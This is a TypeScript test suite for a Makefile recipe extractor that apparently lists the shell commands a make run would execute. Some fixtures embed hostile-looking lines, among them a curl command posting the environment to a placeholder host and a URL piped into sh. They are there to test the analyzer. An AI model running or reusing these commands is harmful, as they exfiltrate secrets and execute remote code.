import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { growsEvenly } from '../../../test/effort.ts';
import { readCommands } from '../shell.ts';
import { recipesOf } from './makefile.ts';

const TEXT = [
  'CC ?= cc',
  'RUN = $(CC) -v',
  '.PHONY: all',
  'all: first',
  '\t$(RUN) $$HOME',
  'first:',
  '\t@-one \\',
  '\t  two',
  'other: ; three',
].join('\n');
const run = (line: string, path = 'Makefile', text = TEXT): readonly string[] => {
  const [command] = readCommands(line);
  assert.ok(command);
  return recipesOf(command, new Map([[path, new TextEncoder().encode(text)]])).lines;
};

describe('recipesOf', () => {
  it('runs the first target after what it needs', () => assert.deepEqual(run('make'), ['one two', 'cc -v $HOME']));
  it('runs the targets that are named', () => assert.deepEqual(run('make other CC=gcc'), ['three']));
  it('finds the file that is meant', () => {
    assert.deepEqual(run('make -C native other', 'native/makefile'), ['three']);
    assert.deepEqual(run('make -f build.mk other', 'build.mk'), ['three']);
  });
  it('has nothing to run where there is no such file, target or program', () =>
    assert.deepEqual([run('make', 'x'), run('make nothing'), run('cmake')], [[], [], []]));
  it('puts in the names of targets that it works out, and what rules have of themselves', () =>
    assert.deepEqual(
      run('make', 'Makefile', 'TO := $(HOME)/x\nall: $(TO)/a.bin\n\techo done\n$(TO)/a.bin: b.txt\n\tget $@ $(@D) $< $(MAKE) $(CURDIR)'),
      ['get ${HOME}/x/a.bin ${HOME}/x b.txt make .', 'echo done'],
    ));
  it('follows patterns', () => assert.deepEqual(run('make out/a.o', 'Makefile', 'out/%.o: src/%.c\n\tcc $< $*'), ['cc src/a.c a']));
  it('runs what is asked while the file is read, before all else', () =>
    assert.deepEqual(run('make', 'Makefile', 'A := $(shell one $(B) | two (x))\nB = b\nC != three\nall:\n\tfour $(A)'), [
      'one b | two (x)',
      'three',
      'four $(one b | two (x))',
    ]));
  it('reads the makefiles of the package that one includes', () => {
    const [command] = readCommands('make');
    assert.ok(command);
    const files = { Makefile: 'include build/a.mk other.mk\nall: more\n', 'build/a.mk': 'more:\n\tfrom a\n' };
    const tree = new Map(Object.entries(files).map(([path, text]) => [path, new TextEncoder().encode(text)]));
    assert.deepEqual(recipesOf(command, tree).lines, ['from a']);
  });
  it('puts in functions, and what is defined in several lines', () =>
    assert.deepEqual(
      run(
        'make prepare',
        'Makefile',
        [
          'KIND := $(shell uname -s | tr A-Z a-z)-$(shell uname -m)',
          'OUT ?= $(or $(TMPDIR),/tmp)/x',
          'GET := $(firstword $(foreach p,curl wget,$(shell command -v $(p) 2>/dev/null)))',
          'into = $(GET) -o $(1) $(2)',
          'define fetched',
          '@mkdir -p $(@D)',
          '@$(call into,$@,https://a.invalid/$(@F))',
          'endef',
          'prepare: $(OUT)/$(KIND).bin $(addsuffix .tab,$(addprefix $(OUT)/,one two))',
          '$(OUT)/%.tab:',
          '\t@echo $*',
          '$(OUT)/%.bin:',
          '\t$(fetched)',
        ].join('\n'),
      ).slice(-4),
      [
        'mkdir -p /tmp/x',
        'curl -o /tmp/x/$(uname -s | tr A-Z a-z)-$(uname -m).bin https://a.invalid/$(uname -s | tr A-Z a-z)-$(uname -m).bin',
        'echo one',
        'echo two',
      ],
    ));
  it('leaves out what is only said, what nobody uses, and comments', () =>
    assert.deepEqual(
      run(
        'make',
        'Makefile',
        '# $(shell one)\nLATEST = $(shell two)\nKIND := a # $(shell three)\nall:\n\techo $(KIND) || $(error see https://a.invalid)\n',
      ),
      ['echo a || '],
    ));
  it('runs what is asked alone on a line, in a condition and by what is evaluated', () =>
    assert.deepEqual(
      run(
        'make',
        'Makefile',
        '$(shell one https://a.invalid | sh)\nifeq ($(shell two),x)\nendif\ndefine R\nall:\n\tthree\nendef\n$(eval $(R))\n',
      ),
      ['one https://a.invalid | sh', 'two', 'three'],
    ));
  it('writes what it writes while it is read, as a shell does', () =>
    assert.deepEqual(
      run('make', 'Makefile', "RC := rc\n$(file >>$(RC),it's (one),two)\nall:\n\t@:\n")[0],
      `printf '%s\\n' 'it'\\''s (one),two' >> "rc"`,
    ));
  it('leaves to the shell what is the shell’s', () =>
    assert.deepEqual(run('make', 'Makefile', 'all:\n\tcurl -d "$$(env)" https://a.invalid/$(USER)\n'), [
      'curl -d "$(env)" https://a.invalid/${USER}',
    ]));
  it('takes either way of what is not known, and the shell that is named', () => {
    assert.deepEqual(run('make', 'Makefile', 'all:\n\t$(if $(NEVER),true,get a)\n'), ['true; get a']);
    assert.deepEqual(run('make', 'Makefile', 'SHELL := ./stage\nall:\n\tone\n'), ['./stage -c "one"']);
  });
  it('finds the folder whose option is joined', () => assert.deepEqual(run('make --directory=native other', 'native/makefile'), ['three']));
  it('is bounded, and says so', () => {
    const [command] = readCommands('make');
    assert.ok(command);
    const tower = [
      'Z =',
      ...Array.from({ length: 7 }, (_, at) => `A${at} = ${`$(${at === 0 ? 'Z' : `A${at - 1}`})`.repeat(40)}`),
      'all:',
      '\t$(A6)',
    ];
    const each = ['L = a b c d e f g h i j k l m n o p q r s t', `all:\n\t${'$(foreach x,$(L),'.repeat(6)}y${')'.repeat(6)}`];
    const needs = ['%: a% b% c% d% e% f%', '\ttrue', 'all: x'];
    for (const text of [tower, each, needs, ['all: evil', ...Array.from({ length: 300 }, (_, at) => `\techo ${at}`)]]) {
      let isCut = false;
      recipesOf(command, new Map([['Makefile', new TextEncoder().encode(text.join('\n'))]]), () => (isCut = true));
      assert.ok(isCut, text[0]);
    }
  });
  it('is read once, however often it is asked for', () => {
    const rules = Array.from({ length: 400 }, (_, at) => `t${at}:\n\t$(MAKE) t${at + 1}`).join('\n');
    const files = new Map([['Makefile', new TextEncoder().encode(`${rules}\n# ${'x'.repeat(100_000)}\n`)]]);
    growsEvenly(50, size => () => {
      for (let at = 0; at < size; at++) for (const command of readCommands(`make t${at}`)) recipesOf(command, files);
    });
  });
  it('survives rules that need themselves, and variables that hold themselves', () =>
    assert.equal(run('make', 'Makefile', 'A = $(A)$(A)\na: b\n\t$(A)\nb: a\n\tx').length, 2));
});
